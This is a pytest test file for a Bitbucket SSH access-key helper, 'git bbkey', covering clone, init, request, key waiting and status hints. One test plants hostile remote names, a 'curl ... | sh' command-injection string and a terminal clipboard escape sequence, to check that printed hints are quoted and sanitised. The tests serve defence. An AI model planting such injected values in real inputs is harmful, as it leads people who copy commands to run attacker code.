"""What a screen says to do next can be done, by whoever reads it."""

from __future__ import annotations

import json
import shlex
import subprocess
from pathlib import Path

import pytest

from cloudhome import CloudHome
from home import Home, Result
from test_choices import NO_TOKEN, add_key
from test_existing import own_key, request_key
from test_hook import ends

SSH_URL = "<the SSH URL that Bitbucket shows under Clone>"
WAITING = "Waiting until"


@pytest.fixture(params=["cloud", "home"], ids=["cloud", "datacenter"])
def anyone(request: pytest.FixtureRequest) -> Home:
    return request.getfixturevalue(request.param)


def ok(run: Result) -> Result:
    assert run.status == 0, run
    return run


def a_member(home: Home) -> str | None:
    home.token = "member" if isinstance(home, CloudHome) else "reader"
    return home.token


def pin(home: Home) -> str:
    return home.sandbox.ready["host_keys"][0]["fingerprint"]


def revoke(home: Home) -> None:
    for key in home.sandbox.control("GET", "/state")["keys"]:
        home.sandbox.control("DELETE", "/keys", {"id": key["id"]})


# --- git bbkey clone, as init ------------------------------------------------


def test_clone_lets_who_may_not_register_choose(anyone: Home):
    """The menu of `init`; the key that is then added opens the clone."""
    a_member(anyone)
    spawned = anyone.terminal("git", "bbkey", "clone", "--scope", "project",
                              anyone.https_url(), "app",
                              env={"NO_COLOR": "1"})
    spawned.expect_exact("What now?")
    spawned.expect_exact("4  stop here")
    spawned.sendline("1")
    spawned.expect(WAITING)
    add_key(anyone, "project")
    ends(spawned)
    assert (anyone.work / "app/README.md").exists()


@pytest.mark.parametrize("token", ["member", None])
def test_clone_waits_until_the_key_is_added(anyone: Home, token: str | None):
    a_member(anyone)
    if not token:
        anyone.enrol("ask")
        anyone.token = None
    line = request_key(anyone, "--scope", "project", anyone.https_url())
    spawned = anyone.terminal("git", "bbkey", "clone", "--wait", "--scope",
                              "project", anyone.https_url(), "app")
    if not token:
        spawned.expect_exact(NO_TOKEN)
        spawned.sendline("")
    spawned.expect(WAITING)
    add_key(anyone, "project")
    ends(spawned)
    assert (anyone.work / "app/README.md").exists()
    (key,) = anyone.private_keys()
    assert Path(f"{key}.pub").read_text().strip() == line


def test_clone_without_a_token_takes_the_ssh_url_that_the_page_shows(
        home: Home):
    """docs/scopes.md says so of `init`."""
    home.token = None
    line = request_key(home, home.https_url())
    home.sandbox.control("POST", "/keys", {
        "text": line, "scope": "project", "project": "PROJ",
        "permission": "PROJECT_READ"})
    ok(home.bbkey("clone", "--scope", "project", "--base", home.base,
                  "--host-key", pin(home), home.ssh_url(), "app"))
    assert (home.work / "app/README.md").exists()


def test_a_first_clone_respects_keys_of_the_persons_own(anyone: Home):
    own_key(anyone)
    ok(anyone.bbkey("clone", anyone.https_url(), "app"))
    assert anyone.requests("POST") == [] and anyone.private_keys() == []
    status = ok(anyone.bbkey("status", cwd=anyone.work / "app"))
    assert "Your own SSH keys open it" in status.out


# --- a key that was there -----------------------------------------------------


@pytest.mark.parametrize("scope", ["project", "repo"])
def test_wait_goes_on_where_the_key_was_taken_away(anyone: Home, scope: str):
    ok(anyone.bbkey("init", "--scope", scope, anyone.https_url()))
    anyone.token = None
    spawned = anyone.terminal("git", "bbkey", "init", "--wait", "--scope",
                              scope, anyone.https_url())
    assert NO_TOKEN not in ends(spawned), "it is there: nobody is asked"
    revoke(anyone)
    run = anyone.bbkey("init", "--scope", scope, anyone.https_url())
    assert run.error_class == "auth", run
    assert f"git bbkey request --scope {scope} {anyone.https_url()}" \
        in run.hint
    spawned = anyone.terminal("git", "bbkey", "init", "--wait", "--scope",
                              scope, anyone.https_url())
    spawned.expect_exact(NO_TOKEN)
    spawned.sendline("")
    spawned.expect(WAITING)
    add_key(anyone, scope)
    ends(spawned)


def test_expires_for_a_key_that_was_there_is_not_passed_over(home: Home):
    ok(home.bbkey("init", home.https_url()))
    said = " ".join(ok(home.bbkey("init", "--expires", "30",
                                  home.https_url())).err.split())
    assert "--expires changes nothing" in said
    command = "git bbkey init --new-key --expires 30"
    assert command in said
    home.allow_posts = 2
    said = ok(home.run(*shlex.split(command), home.https_url())).err
    assert ", until 20" in " ".join(said.split())
    assert "changes nothing" not in said


# --- a Data Center that nobody has set up, without a token --------------------


def cloned_elsewhere(home: Home, url: str) -> Path:
    """A clone that came with the machine."""
    folder = home.work / "app"
    home.git("init", "-q", "app")
    home.git("remote", "add", "origin", url, cwd=folder)
    return folder


@pytest.mark.parametrize("kind", ["ssh", "https"])
def test_the_hint_in_a_clone_leads_out_of_it(home: Home, kind: str):
    home.token = None
    url = home.ssh_url() if kind == "ssh" else home.https_url()
    folder = cloned_elsewhere(home, url)
    run = home.bbkey("init", "--base", home.base, cwd=folder)
    assert run.error_class == "auth", run
    again = f"git bbkey init --scope project --base {home.base} "
    assert again + (url if kind == "ssh" else SSH_URL) in run.hint, run
    line = request_key(home, "--base", home.base, home.ssh_url())
    home.sandbox.control("POST", "/keys", {
        "text": line, "scope": "project", "project": "PROJ",
        "permission": "PROJECT_READ"})
    ok(home.run(*shlex.split(again), "--host-key", pin(home), home.ssh_url(),
                cwd=folder))
    if kind == "https":
        assert " and git remote set-url origin <that URL>;" in run.hint
        home.git("remote", "set-url", "origin", home.ssh_url(), cwd=folder)
    ok(home.git("fetch", cwd=folder))


def test_a_request_in_a_clone_goes_on_by_its_ssh_url(home: Home):
    home.token = None
    folder = cloned_elsewhere(home, home.ssh_url())
    run = ok(home.bbkey("request", "--base", home.base, "--expires", "30",
                        cwd=folder))
    assert (f"\ngit bbkey init --wait --scope project --expires 30 --base "
            f"'{home.base}' {home.ssh_url()}\n") in run.out


@pytest.mark.parametrize("name, shown", [
    ("a;curl${IFS}x|sh;#", True), ("a\x1b]52;c;AAAA\x07", False)])
def test_a_remotes_name_is_a_strangers(home: Home, name: str, shown: bool):
    """It came with the repository; a person copies what is on the screen."""
    home.token = None
    home.git("config", "--global", f"bbkey.{home.base}.edition", "datacenter")
    folder = cloned_elsewhere(home, home.https_url())
    config = folder / ".git" / "config"
    config.write_text(config.read_text().replace('"origin"', f'"{name}"'))
    for words in (["init"], ["status"], ["request"]):
        run = home.bbkey(*words, cwd=folder)
        assert "\x1b" not in run.out + run.err, run
        if not shown:
            assert run.error_class == "usage" and "name" in run.error, run
    if shown:
        run = home.bbkey("init", "--base", home.base, cwd=folder)
        assert f" and git remote set-url '{name}' <that URL>" in run.hint, run


# --- what is refused ----------------------------------------------------------


def test_where_access_keys_are_off_an_account_can_have_one(home: Home):
    home.sandbox.set(access_keys_enabled=False)
    run = home.bbkey("init", home.https_url())
    assert run.error_class == "permission", run
    assert "--scope personal" in run.hint
    run = home.bbkey("init", "--scope", "personal", home.https_url())
    assert "switched off" not in run.err, run
    assert "/plugins/servlet/ssh/account/keys" in run.hint, run


def test_the_same_again_is_with_the_same_options(home: Home):
    home.token = "reader"
    folder = cloned_elsewhere(home, "https://elsewhere.example/x.git")
    home.git("remote", "add", "up", home.https_url(), cwd=folder)
    run = home.bbkey("init", "--remote", "up", "--write", "--label", "a b",
                     "--base", home.base, cwd=folder)
    assert run.error_class == "permission", run
    command = run.hint.split("run: ")[1].split(", and send")[0]
    assert command == ("git bbkey request --write --label 'a b' --remote up "
                       f"--base '{home.base}'")
    request = ok(home.run(*shlex.split(command), "--json", cwd=folder))
    request = json.loads(request.out)["request"]
    assert (request["project"], request["label"]) == ("PROJ", "a b")


def test_a_plain_clone_names_commands_that_need_no_repository(home: Home):
    home.enrol("always")
    home.token = "reader"
    clone = home.git("clone", home.ssh_url())
    assert clone.status == 128
    command = f"git bbkey request --scope project {home.https_url()}"
    assert f"run: {command}, and send" in clone.err, clone
    ok(home.run(*shlex.split(command)))
    assert f"try: git bbkey init --scope repo {home.https_url()} (this" \
        in clone.err, clone


def test_of_what_the_token_does_not_show_one_can_ask(anyone: Home):
    anyone.token = "stranger" if "stranger" in anyone.sandbox.tokens else \
        a_member(anyone)
    where = ("acme", "secret") if isinstance(anyone, CloudHome) else \
        ("other", "secret")
    url = anyone.https_url(*where)
    run = anyone.bbkey("init", "--scope", "project", url)
    assert run.error_class == "permission", run
    command = f"git bbkey request --scope project {url}"
    assert f"run: {command}, and send" in run.hint, run
    ok(anyone.run(*shlex.split(command)))


def test_wait_does_not_need_a_token_that_shows_it(cloud: CloudHome):
    cloud.token = "stranger" if "stranger" in cloud.sandbox.tokens else \
        a_member(cloud)
    url = cloud.https_url("acme", "secret")
    line = request_key(cloud, "--scope", "repo", url)
    spawned = cloud.terminal("git", "bbkey", "init", "--wait", "--scope",
                             "repo", url)
    spawned.expect_exact(f"\r\n  git bbkey request --scope repo {url}\r\n")
    spawned.expect(WAITING)
    cloud.sandbox.control("POST", "/keys", {
        "scope": "repo", "workspace": "acme", "repo": "secret", "text": line})
    ends(spawned)


@pytest.mark.parametrize("name, value", [("permission", "write"),
                                         ("expires", "30")])
def test_a_default_that_cloud_cannot_give_is_none(cloud: CloudHome, name: str,
                                                  value: str):
    """`request` as `init`."""
    cloud.git("config", "--global", f"bbkey.{cloud.base}.{name}", value)
    cloud.token = None
    ok(cloud.bbkey("request", cloud.https_url()))
    run = cloud.bbkey("request", f"--{'write' if value == 'write' else name}",
                      *([] if value == "write" else [value]),
                      cloud.https_url())
    assert run.error_class == "permission", run


# --- Cloud's old name behind an alias -----------------------------------------


def test_an_alias_of_the_old_name_is_told_what_to_write(names: Home):
    token, names.token = names.token, None
    config = names.make_ssh_folder() / "config"
    config.write_text("Host work\n\tHostName bitbucket.org\n")
    folder = cloned_elsewhere(names, "git@work:acme/app.git")
    run = names.bbkey("init", cwd=folder)
    assert run.error_class == "not-bitbucket", run
    assert "--base" in run.hint and "https://bitbucket.org" in run.hint, run
    names.token = token
    command = ("git", "bbkey", "init", "--auto", "always", "--base",
               "https://bitbucket.org")
    run = names.run(*command, cwd=folder)
    assert run.error_class == "network", run
    assert "'Host work', write: HostName ssh.bitbucket.org" in run.hint, run
    config.write_text("Host work\n\tHostName ssh.bitbucket.org\n")
    ok(names.run(*command, cwd=folder))
    ok(names.git("fetch", cwd=folder))
    ok(names.git("clone", "git@work:acme/tool.git"))
    ok(names.git("clone", "https://bitbucket.org/acme/app.git", "two"))
    assert len(names.deploy_keys()) == len(names.private_keys()) == 1


# --- status ---------------------------------------------------------------------


def next_line(home: Home, folder: Path) -> str:
    run = ok(home.bbkey("status", cwd=folder))
    lines = run.out.splitlines()
    assert all(len(line) <= 80 for line in lines), run
    start = next(i for i, line in enumerate(lines)
                 if line.startswith(("Not ready", "Ready")))
    return " ".join(lines[start:])


def test_status_names_the_step_for_each_fault(home: Home):
    home.enrol("always")
    ok(home.git("clone", "-q", home.https_url(), "app"))
    folder = home.work / "app"
    assert next_line(home, folder) == "Ready."
    home.sandbox.set(ssh_enabled=False)
    assert next_line(home, folder) == \
        "Not ready. Is localhost in reach from this network? Then run this again."
    home.sandbox.set(ssh_enabled=True)
    revoke(home)
    assert next_line(home, folder) == "Not ready. Set it up: git bbkey init"
    (key,) = home.private_keys()
    subprocess.run(["ssh-keygen", "-q", "-p", "-N", "horse battery", "-f",
                    str(key)], check=True)
    assert next_line(home, folder) == \
        f"Not ready. The key has a passphrase: ssh-add ~/.ssh/{key.name}"


def test_status_of_a_key_that_has_a_passphrase(home: Home):
    path = home.make_ssh_folder() / "id work"
    home.make_key(path, passphrase="horse battery")
    home.more_secrets = ["horse battery"]
    said = ok(home.bbkey("init", "--key", str(path), home.https_url())).err
    command = f"ssh-add '{path}'"
    assert f"run {command} once" in " ".join(said.split()), said
    folder = cloned_elsewhere(home, home.ssh_url())
    status = ok(home.bbkey("status", cwd=folder))
    assert "Not ready. The key has a passphrase: " + command in " ".join(
        status.out.split()), status
